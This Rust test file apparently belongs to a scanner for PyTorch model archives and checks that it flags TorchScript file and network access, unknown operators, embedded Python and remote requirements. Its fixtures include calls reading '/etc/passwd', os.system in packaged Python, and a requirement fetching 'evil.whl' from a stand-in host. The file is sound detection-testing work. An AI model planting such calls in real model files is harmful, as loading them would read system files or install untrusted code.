//! Model formats that are archives with certain members: TorchScript, torch.package, TorchServe.

use mainstay_modelfiles::Examined;
use mainstay_testkit::mutation::Seed;
use mainstay_testkit::{ZipPart, zip_of};

use super::everything::{codes, examined, is_clean};
use super::packed::met;
use super::zip::{EMPTY, torch_zip};

const HONEST: &str = "\
class Net(Module):
  __parameters__ = []
  training : bool
  weight : __torch__.torch.classes.quantized.Conv2dPackedParamsBase
  def forward(self: __torch__.Net,
    x: Tensor) -> Tensor:
    _0 = \"torch.save is only text\"
    y = torch.conv2d(x, CONSTANTS.c0)
    ops.prim.RaiseException(_0, \"builtins.ValueError\")
    return ops.torchvision.nms(y, x, 0.5)
";

fn script(code: &str) -> Vec<u8> {
    torch_zip(&[
        ("net/data.pkl", EMPTY),
        ("net/code/__torch__.py", code.as_bytes()),
        ("net/code/__torch__.py.debug_pkl", EMPTY),
        ("net/constants.pkl", EMPTY),
        ("net/constants/0", &[0x3F; 64]),
        ("net/version", b"3\n"),
    ])
}

fn calling(call: &str) -> Examined {
    examined("net.pt", &script(&format!("{HONEST}    _1 = {call}\n")))
}

fn package() -> Vec<u8> {
    torch_zip(&[
        ("pkg/.data/extern_modules", b"torch\nos\n"),
        ("pkg/.data/version", b"6\n"),
        ("pkg/.data/0.storage", &[0x3F; 64]),
        ("pkg/model/model.pkl", EMPTY),
        ("pkg/model/__init__.py", b""),
        ("pkg/model/net.py", b"import os\nos.system(\"echo inert\")\n"),
    ])
}

fn served(manifest: &str) -> Vec<u8> {
    zip_of(&[
        ZipPart::deflated("MAR-INF/MANIFEST.json", manifest.as_bytes()),
        ZipPart::deflated("handler.py", b"import os\n"),
        ZipPart::stored("model.pt", &torch_zip(&[("m/data.pkl", EMPTY), ("m/version", b"3")])),
    ])
}

const MANIFEST: &str = r#"{"createdOn": "x", "model": {"modelName": "m", "serializedFile":
    "model.pt", "handler": "handler.py", "requirementsFile": "wants.txt"}}"#;

/// An archive of TorchServe whose manifest names a list of packages, with a file of such a list.
fn asking(stated: &str, path: &str) -> Vec<u8> {
    let manifest = format!(r#"{{"model": {{"requirementsFile": "{stated}"}}}}"#);
    let list = b"torch==2.4.0\nevil @ https://a.example/evil.whl\n";
    zip_of(&[
        ZipPart::deflated("MAR-INF/MANIFEST.json", manifest.as_bytes()),
        ZipPart::deflated(path, list),
    ])
}

/// Every fixture.
pub fn seeds() -> Vec<Seed> {
    let seed = |name: &str, bytes: Vec<u8>| Seed { name: name.to_owned(), bytes };
    vec![
        seed("script.pt", script(HONEST)),
        seed("saving.pt", script("def f(x):\n  torch.save(x, \"/tmp/x\")\n")),
        seed("texts.pt", script("x = \"\"\"a\"\"\"\ny = 2.\ntorch.autograd.save(x)\n_1 = ops\n")),
        seed("package.pt", package()),
        seed("served.mar", served(MANIFEST)),
        seed("asking.mar", asking("wants.txt", "wants.txt")),
    ]
}

#[test]
fn an_honest_torchscript_is_clean() {
    let examined = examined("net.pt", &script(HONEST));
    assert!(is_clean(&examined), "{examined:?}");
    assert!(met(&examined, "", "torchscript"));
}

#[test]
fn torchscript_that_opens_files_is_told_with_its_line() {
    for call in [
        "torch.save(x, \"/tmp/x\")",
        "torch.from_file(\"/etc/passwd\", True, 10)",
        "ops.aten.from_file(\"/etc/passwd\")",
        "ops . image . write_file(\"/tmp/x\", y)",
        "ops.torchaudio.sox_io_save_audio_file(\"/tmp/x\")",
    ] {
        let examined = calling(call);
        assert_eq!(codes(&examined), ["model-touches-files"], "{call}");
        assert!(examined.dangers[0].shown.as_deref().unwrap().starts_with(call));
    }
}

#[test]
fn torchscript_that_calls_other_machines_uses_the_network() {
    assert_eq!(codes(&calling("rpc_async(\"w\", \"f\")")), ["model-uses-network"]);
}

#[test]
fn an_operator_of_a_library_that_nobody_knows_is_unknown() {
    assert_eq!(codes(&calling("ops.evil.run(x)")), ["model-unknown-call"]);
    assert_eq!(codes(&calling("__torch__.torch.classes.evil.Box()")), ["model-unknown-call"]);
}

#[test]
fn the_operators_of_torch_are_found_by_every_path() {
    for call in [
        "torch.autograd.save(x, \"/tmp/x\")",
        "ops.aten.autograd.autograd.save(x, \"/tmp/x\")",
        "2.\n    torch.save(x, \"/tmp/x\")",
        "\"\"\"\" \"\"\"\n    torch.save(x, \"/tmp/x\")",
        "...\n    torch.save(x, \"/tmp/x\")",
        "__torch__.torch.classes.torchvision.Video(\"/tmp/x\", \"video\")",
    ] {
        assert_eq!(codes(&calling(call)), ["model-touches-files"], "{call}");
    }
}

#[test]
fn operators_that_are_handed_on_as_a_whole_are_unknown() {
    for call in [
        "torch",
        "ops\n    _2 = _1.image.read_file(\"x\")",
        "ops.image",
        "torch.autograd",
        "getattr(torch, \"sa\")",
        "(torch).save(x, \"/tmp/x\")",
        "__torch__.torch.classes",
    ] {
        assert_eq!(codes(&calling(call)), ["model-unknown-call"], "{call}");
    }
}

#[test]
fn a_module_may_be_named_like_the_operators() {
    let code = HONEST.replace("  training", "  ops : __torch__.ops.Net\n  training");
    let code = code.replace("return ops", "z = (self.ops).forward(y, 2.)\n    return ops");
    assert!(code.contains("2."));
    let examined = examined("net.pt", &script(&code));
    assert!(is_clean(&examined), "{examined:?}");
}

#[test]
fn torchscript_of_the_first_form_is_read_too() {
    let archive = |code: &[u8]| {
        torch_zip(&[("net/model.json", b"{\"protoVersion\": \"1\"}"), ("net/code/net.py", code)])
    };
    let saving = archive(b"def forward(self):\n  torch.save(self, \"/tmp/x\")\n");
    assert_eq!(codes(&examined("net.pt", &saving)), ["model-touches-files"]);
    let honest =
        archive(b"op_version_set = 1\ndef forward(self, x: Tensor):\n  return torch.relu(x)\n");
    assert!(is_clean(&examined("net.pt", &honest)));
}

#[test]
fn python_beside_torchscript_is_read_as_python() {
    let archive = torch_zip(&[
        ("net/constants.pkl", EMPTY),
        ("net/code/handler.py", b"import os\nos.system(\"echo inert\")\n"),
    ]);
    assert_eq!(codes(&examined("net.pt", &archive)), ["model-runs-code"]);
}

#[test]
fn a_package_of_torch_carries_code() {
    let examined = examined("p.pt", &package());
    assert!(codes(&examined).contains(&"model-carries-code"));
    assert!(met(&examined, "", "torch-package"));
}

#[test]
fn an_archive_of_torchserve_carries_the_code_of_its_handler() {
    let examined = examined("m.mar", &served(MANIFEST));
    assert_eq!(codes(&examined), ["model-carries-code"]);
    assert_eq!(examined.dangers[0].place.member.as_deref(), Some("handler.py"));
    assert!(met(&examined, "model.pt", "torch-zip"));
}

#[test]
fn a_handler_that_is_nowhere_is_unknown_and_one_of_torchserve_is_not() {
    let nowhere = served(r#"{"model": {"handler": "os.py:system"}}"#);
    assert!(codes(&examined("m.mar", &nowhere)).contains(&"model-unknown-call"));
    let own = served(r#"{"model": {"handler": "image_classifier"}}"#);
    assert!(!codes(&examined("m.mar", &own)).contains(&"model-unknown-call"));
}

#[test]
fn a_manifest_that_cannot_be_read_is_a_gap() {
    assert_eq!(examined("m.mar", &served("{")).gaps.len(), 1);
}

#[test]
fn a_list_of_packages_is_read_by_every_name() {
    for path in ["requirements.txt", "model-requirements.txt", "Requirements.txt", "wants.txt"] {
        let found = examined("m.mar", &asking(path, path));
        assert_eq!(codes(&found), ["model-remote-code"], "{path}: {found:?}");
        assert!(found.gaps.is_empty(), "{path}");
    }
    for stated in ["./wants.txt", "deep/wants.txt"] {
        assert_eq!(codes(&examined("m.mar", &asking(stated, "wants.txt"))), ["model-remote-code"]);
    }
}

#[test]
fn a_list_of_packages_that_is_nowhere_is_a_gap() {
    assert_eq!(examined("m.mar", &asking("wants.txt", "other.bin")).gaps.len(), 1);
}

#[test]
fn code_of_a_package_is_told_once() {
    let found = examined("p.pt", &package());
    assert_eq!(codes(&found).iter().filter(|code| **code == "model-runs-code").count(), 1);
    let manifest = r#"{"model": {"handler": "run.py"}}"#;
    let archive = zip_of(&[
        ZipPart::deflated("MAR-INF/MANIFEST.json", manifest.as_bytes()),
        ZipPart::deflated("run.py", b"import os\nos.system(\"echo inert\")\n"),
    ]);
    assert_eq!(codes(&examined("m.mar", &archive)), ["model-runs-code", "model-carries-code"]);
}

#[test]
fn python_of_a_package_in_the_place_of_torchscript_is_read() {
    let archive = torch_zip(&[
        ("pkg/.data/extern_modules", b"torch\n"),
        ("pkg/constants.pkl", EMPTY),
        ("pkg/code/__torch__/net.py", b"import os\nos.system(\"echo inert\")\n"),
    ]);
    assert!(codes(&examined("p.pt", &archive)).contains(&"model-runs-code"));
}

#[test]
fn the_pickle_of_torch_is_a_whole_name_in_any_case() {
    let other = torch_zip(&[("a/data.pkl", EMPTY), ("a/xdata.pkl", EMPTY), ("a/version", b"3")]);
    assert!(is_clean(&examined("a.pt", &other)));
    let twice = torch_zip(&[("a/data.pkl", EMPTY), ("a/DATA.PKL", EMPTY), ("a/version", b"3")]);
    assert_eq!(codes(&examined("a.pt", &twice)), ["model-odd-container"]);
}

#[test]
fn more_pickles_of_torch_than_are_looked_at_are_a_gap() {
    let paths: Vec<String> = (0..20).map(|number| format!("{number}/data.pkl")).collect();
    let members: Vec<(&str, &[u8])> = paths.iter().map(|path| (&**path, EMPTY)).collect();
    assert_eq!(examined("a.pt", &torch_zip(&members)).gaps.len(), 1);
}

#[test]
fn torchscript_in_capitals_is_read() {
    let archive = torch_zip(&[
        ("net/CONSTANTS.PKL", EMPTY),
        ("net/CODE/__torch__.PY", b"def f(x):\n  torch.save(x, \"/tmp/x\")\n"),
    ]);
    assert_eq!(codes(&examined("net.pt", &archive)), ["model-touches-files"]);
}
